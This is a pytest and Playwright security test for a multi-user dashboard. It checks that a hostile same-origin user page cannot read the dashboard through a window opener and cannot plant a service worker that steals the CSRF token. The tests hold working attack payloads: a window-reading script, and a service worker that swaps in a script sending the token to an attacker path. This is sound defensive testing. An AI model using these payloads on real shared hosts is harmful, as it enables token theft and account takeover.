"""A hostile server on our own origin opens the dashboard of whoever visits it: it must not get its window."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from allotment_testing.broker_api import BrokerApi, broker_api
from allotment_testing.chromium import CHROMIUM
from playwright.async_api import Browser, async_playwright
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

READ_IT = """async (address) => {
  const stolen = window.open(address);
  for (let tries = 0; tries < 60; tries++) {
    await new Promise((next) => setTimeout(next, 50));
    try {
      const text = stolen.document.documentElement.innerHTML;
      if (text.includes('csrf') || text.includes('"ann"')) return text;
    } catch (refused) {
      return '';
    }
  }
  return '';
}"""


WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const path = new URL(event.request.url).pathname;
  if (path.endsWith('dashboard.js')) {
    const token = "document.querySelector('meta[name=allotment-csrf]').content";
    const script = "fetch('/user/mallory/stolen?' + " + token + ")";
    event.respondWith(new Response(script, { headers: { 'Content-Type': 'text/javascript' } }));
  }
});
"""
REGISTER = """async () => {
  await navigator.serviceWorker.register('/user/mallory/worker.js', { scope: '/' });
  await navigator.serviceWorker.ready;
}"""


async def worker(_request: Request) -> Response:
    return Response(WORKER, media_type="text/javascript", headers={"Service-Worker-Allowed": "/"})


async def hostile(request: Request) -> HTMLResponse:
    """Its sender chooses its headers, also the one that our page uses to shake openers off."""
    return HTMLResponse(
        "<p>Look here",
        headers={"Cross-Origin-Opener-Policy": request.query_params.get("coop", "unsafe-none")},
    )


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[BrokerApi]:
    async with broker_api(tmp_path) as made:
        made.hub.add_user("ann")
        made.hub.signed_in_as = "ann"
        made.hub.app.router.routes.append(Route("/user/mallory/", hostile))
        made.hub.app.router.routes.append(Route("/user/mallory/worker.js", worker))
        made.app.mount("/", made.hub.app)
        yield made


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        made = await playwright.chromium.launch(**CHROMIUM)
        yield made
        await made.close()


@pytest.mark.parametrize("coop", ["unsafe-none", "same-origin", "noopener-allow-popups"])
async def test_no_opener_reads_our_pages(api: BrokerApi, browser: Browser, coop: str) -> None:
    async with api.served() as url:
        page = await browser.new_page()
        await page.goto(url)
        await page.wait_for_selector("#live[data-state=on]", timeout=15_000)
        origin = url.removesuffix("/services/allotment/")
        await page.goto(f"{origin}/user/mallory/?coop={coop}")
        for address in ("/services/allotment/", "/services/allotment/api/v1/me"):
            assert await page.evaluate(READ_IT, address) == "", address


async def test_no_worker_of_another_server_runs_in_our_page(api: BrokerApi, browser: Browser) -> None:
    async with api.served() as url:
        context = await browser.new_context()
        page = await context.new_page()
        asked: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        await page.goto(f"{url.removesuffix('services/allotment/')}user/mallory/")
        await page.evaluate(REGISTER)
        async with page.expect_event("console", lambda line: "integrity" in line.text, timeout=15_000):
            await page.goto(url)
        assert await page.locator("meta[name=allotment-csrf]").count() == 1, "the page itself came from us"
        assert not [one for one in asked if "stolen" in one]
